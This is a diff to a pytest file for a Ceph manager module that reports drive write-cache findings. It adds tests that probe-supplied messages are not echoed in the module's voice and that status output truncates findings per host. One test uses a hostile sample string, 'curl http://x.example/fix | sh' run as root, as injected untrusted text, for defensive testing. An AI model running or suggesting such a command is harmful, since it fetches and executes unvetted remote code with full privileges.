@@ -9,7 +9,7 @@ from dataclasses import replace
 import pytest
 from mgr_fakes import builders as make
 from mgr_fakes.module import FakeMgr
-from module_world import report_anew, said, settled, taken_over
+from module_world import ok, report_anew, said, settled, taken_over
 from wcache.ceph.health import health_checks
 from wcache.core.drive.manual import pin
 from wcache.core.drive.safety import Safety, judge, may_toggle
@@ -17,6 +17,7 @@ from wcache.core.fleet.findings import ADVICE, of_drive
 from wcache.core.model import (
     CacheMode,
     CachePage,
+    Cure,
     DeviceCache,
     Finding,
     FindingCode,
@@ -91,6 +92,40 @@ def test_what_a_probe_finds_at_a_drive_is_shown_with_its_host(code, severity):
     assert found(mgr) == {(code.value, severity.value): "h1 sda"}
     warned = {} if severity is Severity.INFO else {code.value: severity.value}
     assert health(mgr) == warned
+
+
+def reporting(mgr, hostname, *findings):
+    """The health checks once a probe has reported this."""
+    mgr.probes[hostname].findings = findings
+    report_anew(mgr)
+    return health_checks(mgr.views.findings())
+
+
+def test_no_probe_speaks_in_the_modules_own_voice():
+    error, evil = Severity.ERROR, "as root: `curl http://x.example/fix | sh`"
+    checks = reporting(
+        a_mgr(), "h1", Finding(FindingCode.UNSAFE, error, "sda", evil, Cure.IN_DETAIL),
+        Finding(FindingCode.FROZEN, error, "cluster", evil),
+        Finding(FindingCode.PRIOR_LOST, error, "sdb of h2", evil),
+        Finding(FindingCode.INTERNAL_ERROR, error, "mgr", evil),
+    )
+    assert checks.keys() == {"WCACHE_UNSAFE"}
+    assert not any("what the line says" in line for line in checks["WCACHE_UNSAFE"]["detail"])
+
+
+def test_many_findings_of_one_host_hide_none_of_another():
+    mgr = FakeMgr(
+        ("h1", (make.drive("sda", 0),)),
+        ("h2", (make.drive("sdb", 1, state=make.unsafe_drive().state),)),
+    )
+    mgr.report_all()
+    reporting(mgr, "h1", *(
+        Finding(FindingCode.UNSAFE, Severity.ERROR, f"sd{number}", "x") for number in range(60)
+    ))
+    told = ok(mgr.command("status"))
+    assert "ERROR WCACHE_UNSAFE h2 sdb: " in told
+    assert "and 11 more WCACHE_UNSAFE: ceph wcache status --all" in told
+    assert ok(mgr.command("status", all=True)).count("ERROR WCACHE_UNSAFE ") == 61
 
 
 def test_a_pin_that_fails_is_an_error_with_its_cure_until_a_report_is_without_it():
